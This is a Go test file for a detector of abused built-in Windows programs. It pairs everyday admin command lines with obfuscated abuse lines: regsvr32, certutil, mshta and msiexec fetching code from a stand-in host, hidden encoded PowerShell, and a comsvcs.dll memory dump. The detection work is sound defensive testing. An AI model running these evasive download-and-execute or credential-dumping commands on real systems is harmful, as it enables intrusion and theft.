package lolbas

import "testing"

// What installers, agents, the shell and administrators do all day. One false alarm here is thousands on an estate: each opens a
// case for a program that runs everywhere.
func TestEverydayUseIsNoAbuse(t *testing.T) {
	for _, tt := range []struct{ who, program, line string }{
		{"the shell opens a control panel page", "Rundll32.exe", `C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL C:\Windows\System32\intl.cpl,,/p:"date"`},
		{"the shell asks with what to open a file", "Rundll32.exe", `rundll32.exe C:\Windows\system32\shell32.dll,OpenAs_RunDLL C:\Users\ana\Desktop\data.bin`},
		{"the shell serves a COM class", "Rundll32.exe", `C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding`},
		{"Windows touches WebDAV", "Rundll32.exe", `rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie intranet.example.com https://intranet.example.com/`},
		{"a task maintains Windows", "Rundll32.exe", `C:\Windows\system32\rundll32.exe Startupscan.dll,SusRunTask`},
		{"a task of the compatibility team", "Rundll32.exe", `C:\Windows\system32\rundll32.exe aepdu.dll,AePduRunUpdate`},
		{"a printer is added by a logon script", "Rundll32.exe", `rundll32 printui.dll,PrintUIEntry /ga /n\\print1\hall`},
		{"a driver's tray program starts", "Rundll32.exe", `"C:\Windows\System32\rundll32.exe" "C:\Program Files\NVIDIA Corporation\Display\nvtray.dll",Start`},
		{"a printer driver shows its panel", "Rundll32.exe", `rundll32.exe C:\Windows\system32\spool\DRIVERS\x64\3\hpui.dll,Show /x`},
		{"the browser settings are cleared", "Rundll32.exe", `RunDll32.exe InetCpl.cpl,ClearMyTracksByProcess 255`},
		{"the workstation is locked", "Rundll32.exe", `rundll32.exe user32.dll,LockWorkStation`},
		{"a web page is opened by an application", "Rundll32.exe", `rundll32.exe url.dll,FileProtocolHandler https://www.example.com/manual.html`},
		{"Active Setup runs for a new user", "Rundll32.exe", `C:\Windows\System32\rundll32.exe advpack.dll,LaunchINFSectionEx C:\Windows\System32\ieuinit.inf,Install,,36`},
		{"an installer's custom action", "Rundll32.exe", `rundll32.exe "C:\Users\ana\AppData\Local\Temp\MSI9F2C.tmp",zzzzInvokeManagedCustomActionOutOfProc SfxCA_1234 19 App!Check`},
		{"a deployment from a share", "Msiexec.exe", `msiexec.exe /i "\\dist.example.com\packages\agent 4.2\agent.msi" /qn /norestart /l*v C:\Windows\Temp\agent.log`},
		{"an installer's bootstrapper", "Msiexec.exe", `C:\Windows\system32\msiexec.exe /i "C:\Users\ana\AppData\Local\Temp\{8A2}\setup.msi" AI_SETUPEXEPATH="C:\Users\ana\Downloads\setup.exe" SETUPEXEDIR=C:\Users\ana\Downloads\`},
		{"a repair by product code", "Msiexec.exe", `msiexec.exe /fa {90160000-008C-0000-1000-0000000FF1CE} /quiet`},
		{"an installation with a local transform", "Msiexec.exe", `msiexec /i C:\sw\reader.msi TRANSFORMS=C:\sw\corp.mst /qn`},
		{"the installer's service", "Msiexec.exe", `C:\Windows\System32\MsiExec.exe -Embedding 5B7C2A9E1D0F4C3B8A6E E Global\MSI0000`},
		{"an installer registers its control", "Regsvr32.exe", `"C:\Windows\system32\regsvr32.exe" /s "C:\Program Files\Common Files\Shop\shop.ax"`},
		{"a repair registers Windows' own", "Regsvr32.exe", `regsvr32.exe /s wuapi.dll`},
		{"a meeting add-in registers per user", "Regsvr32.exe", `regsvr32.exe /s /n /i:user "C:\Users\ana\AppData\Local\Microsoft\TeamsMeetingAddin\1.24.3\x64\Microsoft.Teams.AddinLoader.dll"`},
		{"a hash is checked", "Certutil.exe", `certutil.exe -hashfile "C:\Users\ana\Downloads\disk.iso" SHA256`},
		{"a certificate is installed from a share", "Certutil.exe", `certutil -f -addstore Root \\dc1\netlogon\ca.cer`},
		{"a certificate authority is asked", "Certutil.exe", `certutil -ping -config "ca1.example.com\Example CA"`},
		{"the URL cache is emptied", "Certutil.exe", `certutil -urlcache crl delete`},
		{"a certificate's URLs are checked", "Certutil.exe", `certutil -url C:\certs\web.cer`},
		{"a service is asked for", "Sc.exe", `sc.exe queryex type= service state= all`},
		{"an installer creates its service", "Sc.exe", `sc create ShopSvc binPath= "\"C:\Program Files\Shop\svc.exe\" --service" start= delayed-auto obj= LocalSystem`},
		{"a service's recovery is set", "Sc.exe", `sc failure ShopSvc reset= 86400 actions= restart/5000/restart/5000//`},
		{"a driver service is created", "Sc.exe", `sc create ShopDrv type= kernel binPath= C:\Windows\System32\drivers\shop.sys`},
		{"an updater creates its task", "Schtasks.exe", `schtasks.exe /Create /TN "Shop\Update" /TR "'C:\Program Files\Shop\update.exe' /task" /SC HOURLY /RU SYSTEM /F`},
		{"an updater of one user creates its task", "Schtasks.exe", `schtasks /create /tn ShopUser /sc onlogon /tr "C:\Users\ana\AppData\Local\Programs\Shop\update.exe --quiet"`},
		{"a task is made from XML", "Schtasks.exe", `schtasks.exe /create /xml "C:\Program Files\Shop\task.xml" /tn Shop /f`},
		{"a script restarts nightly", "Schtasks.exe", `schtasks /create /tn Reboot /tr "shutdown /r /t 60" /sc weekly /d SUN /st 02:00`},
		{"a maintenance script as task", "Schtasks.exe", `schtasks /create /tn Clean /tr "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\clean.ps1" /sc daily`},
		{"tasks are listed on another host", "Schtasks.exe", `schtasks /query /s srv7 /fo csv /v`},
		{"an agent's inventory script", "Powershell.exe", `powershell.exe -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "& 'C:\ProgramData\Agent\scripts\inventory.ps1'"`},
		{"Intune's detection script", "Powershell.exe", `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -executionPolicy bypass -file "C:\Windows\IMECache\HealthScripts\1f2e_1\detect.ps1"`},
		{"Defender's own script", "Powershell.exe", `powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$s = [System.IO.File]::Open('C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\Downloads\a.ps1', 'Open', 'Read', 'Read');}"`},
		{"a logon script from the domain", "Powershell.exe", `powershell.exe -ExecutionPolicy Bypass -File \\corp.example.com\netlogon\map.ps1`},
		{"a hidden window at logon", "Powershell.exe", `powershell.exe -WindowStyle Hidden -File "C:\Program Files\Corp\banner.ps1"`},
		{"a configuration tool's encoded facts", "Powershell.exe", `powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlAA==`},
		{"a service is restarted", "Powershell.exe", `powershell Restart-Service spooler -Force`},
		{"a developer's build", "Powershell.exe", `pwsh -c "npm ci; npm run build"`},
		{"a batch file", "Cmd.exe", `C:\Windows\system32\cmd.exe /c ""C:\Program Files\Shop\start.cmd" --quiet"`},
		{"a pipe with redirections", "Cmd.exe", `cmd.exe /d /s /c "dir /b /s *.log 2>nul | find /c ":" > C:\Temp\n.txt"`},
		{"a share is listed", "Cmd.exe", `cmd /c type \\fs1\logs\app.log > C:\Temp\app.log`},
		{"old files are cleaned", "Forfiles.exe", `forfiles -p "C:\inetpub\logs\LogFiles" -s -m *.log -d -14 -c "cmd /c del /q @path"`},
		{"text is filtered", "Findstr.exe", `findstr /v /i /c:"rem" C:\batch\env.bat`},
		{"a drive letter in a pattern", "Findstr.exe", `findstr /r "^C:\\Windows\\.*:.*$" list.txt`},
		{"a passwords policy is searched", "Findstr.exe", `findstr /i MinimumPasswordLength C:\Temp\sec.inf`},
		{"WMI is asked for disks", "Wmic.exe", `wmic logicaldisk where drivetype=3 get deviceid,freespace /format:table`},
		{"WMI is asked for a bios", "Wmic.exe", `wmic /node:@hosts.txt bios get serialnumber /format:htable`},
		{"a product is removed", "Wmic.exe", `wmic product where "name='Shop'" call uninstall /nointeractive`},
		{"settings are queried", "Reg.exe", `reg query "HKLM\SYSTEM\CurrentControlSet\Services\Tcpip\Parameters" /v Hostname`},
		{"a branch below SYSTEM is saved", "Reg.exe", `reg export HKLM\SYSTEM\CurrentControlSet\Services\Shop C:\bak\shop.reg /y`},
		{"a run key is set by an installer", "Reg.exe", `reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v Shop /d "C:\Program Files\Shop\tray.exe" /f`},
		{"the firewall is opened", "Netsh.exe", `netsh advfirewall firewall add rule name=Shop dir=in action=allow protocol=TCP localport=8443`},
		{"licences are activated", "Cscript.exe", `cscript.exe //B //NoLogo C:\Windows\System32\slmgr.vbs /dlv`},
		{"a printer is managed", "Cscript.exe", `cscript C:\Windows\System32\Printing_Admin_Scripts\en-US\prnmngr.vbs -a -p Hall -m "HP" -r IP_10.0.0.9`},
		{"Office's licence is shown", "Cscript.exe", `cscript "C:\Program Files\Microsoft Office\Office16\OSPP.VBS" /dstatus`},
		{"a logon script maps drives", "Wscript.exe", `"C:\Windows\System32\WScript.exe" "\\corp.example.com\SysVol\corp.example.com\Policies\{31B2F340}\User\Scripts\Logon\map.vbs"`},
		{"PowerShell compiles a type", "Csc.exe", `"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /noconfig /fullpaths @"C:\Windows\TEMP\abcd1234\abcd1234.cmdline"`},
		{"a developer builds", "Msbuild.exe", `MSBuild.exe "C:\src\shop\Shop.sln" /m /t:Restore;Build /p:Configuration=Release /v:minimal /nologo /clp:Summary`},
		{"Visual Studio builds with its logger", "Msbuild.exe", `MSBuild.exe Shop.csproj /logger:"C:\Program Files\Microsoft Visual Studio\2022\Enterprise\Common7\IDE\Log.dll" /nologo`},
		{"the update service works", "wuauclt.exe", `"C:\Windows\system32\wuauclt.exe" /UpdateDeploymentProvider C:\Windows\System32\UpdateDeploymentProvider.dll /ClassId 8e5 /RunHandlerComServer`},
		{"a console host", "Conhost.exe", `\??\C:\Windows\system32\conhost.exe 0x4`},
		{"a mounted folder is opened", "Explorer.exe", `"C:\Windows\explorer.exe" /e,/root,"D:\projects"`},
		{"a document is opened", "Explorer.exe", `explorer.exe C:\docs\plan.pdf`},
		{"an update is unpacked", "Expand.exe", `expand.exe -F:* "\\dist.example.com\kb\windows10.0-kb1.cab" C:\Windows\SoftwareDistribution\x`},
		{"a log is packed", "Makecab.exe", `makecab.exe C:\Windows\Logs\CBS\CbsPersist_20240101.log C:\Windows\Logs\CBS\CbsPersist_20240101.cab`},
		{"an extension is checked by the shell", "Verclsid.exe", `"C:\Windows\system32\verclsid.exe" /S /C {871C5380-42A0-1069-A2EA-08002B30309D} /I {000214E6-0000-0000-C000-000000000046} /X 0x401`},
		{"a class is compiled by an installer", "Mofcomp.exe", `mofcomp.exe "C:\Program Files (x86)\Shop\wmi\shop.mof"`},
		{"a mailbox database is checked", "Esentutl.exe", `esentutl /k E:\db\mdb1.edb`},
		{"a backup is made", "Diskshadow.exe", `diskshadow -s "C:\Program Files\Backup\vss.dsh"`},
		{"a web application is opened from SharePoint", "Excel.exe", `"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" ofe|u|https://corp.example.com/sites/f/Shared%20Documents/b.xlsx`},
		{"a page is opened", "Msedge.exe", `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --profile-directory=Default https://www.example.com/a?b=c.exe`},
		{"a jump host is used", "ssh.exe", `ssh -J jump.example.com deploy@web1.example.com "systemctl status shop"`},
		{"a tunnel of a cloud is used", "ssh.exe", `ssh -o ProxyCommand="aws ssm start-session --target %h --parameters portNumber=%p" web1`},
		{"sources are unpacked", "Tar.exe", `tar.exe -xf C:\Users\ana\Downloads\src.zip -C C:\src --strip-components 1`},
		{"a service runs", "Dotnet.exe", `"C:\Program Files\dotnet\dotnet.exe" exec "C:\Program Files\Shop\Api\Shop.Api.dll"`},
		{"a driver is installed", "Pnputil.exe", `pnputil.exe /add-driver "C:\Windows\Temp2\net.inf" /install`},
		{"Squirrel updates Slack", "Update.exe", `C:\Users\ana\AppData\Local\slack\Update.exe --checkForUpdate`},
		{"Discord starts", "Update.exe", `C:\Users\ana\AppData\Local\Discord\Update.exe --processStart Discord.exe`},
	} {
		if u := Parse(tt.program, tt.line); u.Abuse {
			t.Errorf("%s: %s\n%s", tt.who, tt.line, u.Says)
		}
	}
}

// The same abuse, written so that a simple search misses it.
func TestAbuseIsSeenInItsDisguises(t *testing.T) {
	for _, tt := range []struct{ how, program, line, target string }{
		{"carets", "Regsvr32.exe", `r^e^g^s^v^r^3^2 /s /n /u /^i^:^h^t^t^p^s://files.example.com/x scr^obj.dll`, "https://files.example.com/x"},
		{"quotes within words", "Certutil.exe", `certutil.exe -ur"lca"che -f "http://files.example.com/x" x.exe`, "http://files.example.com/x"},
		{"upper and lower case", "Mshta.exe", `MsHtA HtTpS://files.example.com/X`, "HtTpS://files.example.com/X"},
		{"a slash instead of a dash", "Certutil.exe", `certutil /UrlCache /Split /f http://files.example.com/x x`, "http://files.example.com/x"},
		{"a long dash", "Certutil.exe", "certutil \u2013urlcache \u2013f http://files.example.com/x x", "http://files.example.com/x"},
		{"backslashes in an address", "Mshta.exe", `mshta http:\\files.example.com\x`, `http:\\files.example.com\x`},
		{"options behind the target", "Msiexec.exe", `msiexec /i http://files.example.com/x.png /qn`, "http://files.example.com/x.png"},
		{"a glued option", "Msiexec.exe", `msiexec /quiet -ihttp://files.example.com/x`, "http://files.example.com/x"},
		{"a dash for a slash", "Msiexec.exe", `msiexec -q -i https://files.example.com/x`, "https://files.example.com/x"},
		{"a program without extension", "Mftrace.exe", `mftrace x`, "x"},
		{"a device path", "Rundll32.exe", `rundll32 \\?\C:\Users\Public\x.dll,Go`, `\\?\C:\Users\Public\x.dll`},
		{"another extension", "Rundll32.exe", `rundll32 D:\data\picture.png,Go`, `D:\data\picture.png`},
		{"no extension of the host", "Rundll32.exe", `RUNDLL32 "C:\Users\Public\x.dll" , Go`, `C:\Users\Public\x.dll`},
		{"WebDAV", "Regsvr32.exe", `regsvr32 /s \\files.example.com@8080\DavWWWRoot\x.dll`, `\\files.example.com@8080\DavWWWRoot\x.dll`},
		{"forward slashes", "Regsvr32.exe", `regsvr32 /s C:/Users/Public/x.dll`, "C:/Users/Public/x.dll"},
		{"parent folders", "Regsvr32.exe", `regsvr32 /s C:\Windows\..\Users\Public\x.dll`, `C:\Windows\..\Users\Public\x.dll`},
		{"a variable", "Cmstp.exe", `cmstp /s /ns "%APPDATA%\x.inf"`, `%APPDATA%\x.inf`},
		{"a script engine for another file", "Wscript.exe", `wscript //b /e:VBScript C:\docs\note.log`, `C:\docs\note.log`},
		{"a stream", "Wmic.exe", `wmic process call create "C:\docs\note.txt:x.exe"`, `C:\docs\note.txt:x.exe`},
		{"blanks in a call", "Wmic.exe", `wmic  /node:"srv7"   process   CALL   create   "x.exe"`, "x.exe"},
		{"an abbreviated parameter", "Powershell.exe", `powershell -nop -wi hid -e YwBhAGwAYwAuAGUAeABlAA==`, "calc.exe"},
		{"a backtick", "Powershell.exe", "powershell -c \"I`E`X (x)\"", "I`E`X (x)"},
		{"an option without blank", "ssh.exe", `ssh -oProxyCommand=x.exe h`, "x.exe"},
		{"a dump by ordinal", "Rundll32.exe", `rundll32 C:\Windows\System32\comsvcs.dll #24 652 C:\Temp\x.bin full`, "652"},
		{"a dump with an odd ordinal", "Rundll32.exe", `rundll32 comsvcs.dll, #+24 652 x full`, "652"},
		{"a wrapped task", "Schtasks.exe", `schtasks /create /tn x /tr "cmd.exe /c start /b mshta.exe http://files.example.com/x" /sc once /st 00:00`, "cmd.exe /c start /b mshta.exe http://files.example.com/x"},
		{"a launched console host", "Mftrace.exe", `mftrace conhost.exe --headless C:\Temp\x.exe -q`, `C:\Temp\x.exe`},
	} {
		u := Parse(tt.program, tt.line)
		if !u.Abuse {
			t.Errorf("%s: %s\nis not seen: %+v", tt.how, tt.line, u)
		} else if len(u.Payloads) == 0 || u.Payloads[0].Target != tt.target {
			t.Errorf("%s: %s\ngot %+v", tt.how, tt.line, u.Payloads)
		}
	}
}

// For each kind of payload one line that names it.
func TestEveryKindOfPayloadIsTold(t *testing.T) {
	seen := map[PayloadKind]bool{}
	for _, x := range examples(t) {
		for _, p := range Parse(x.program, x.line).Payloads {
			seen[p.Kind] = true
		}
	}
	for _, kind := range kinds {
		if !seen[kind] && kind != PayloadNone {
			t.Errorf("no example names a payload of kind %s", kind)
		}
	}
}

// The forty that never name it say where to look, one each for the registry, the environment, a sibling file, a window.
func TestHiddenPayloadsSayWhereToLook(t *testing.T) {
	for program, want := range map[string]string{
		"Wsreset.exe":         "registry: ",
		"Eventvwr.exe":        "registry: ",
		"Atbroker.exe":        "registry: ",
		"Unregmp2.exe":        "environment: ",
		"Manage-bde.wsf":      "environment: ",
		"CustomShellHost.exe": "a sibling file: ",
		"Eudcedit.exe":        "its window: ",
		"Ftp.exe":             "the lines ",
	} {
		found := false
		for _, f := range grammar()[lowerASCII(program)].forms {
			found = found || len(f.hidden) > len(want) && f.hidden[:len(want)] == want
		}
		if !found {
			t.Errorf("%s does not say %q", program, want)
		}
	}
}
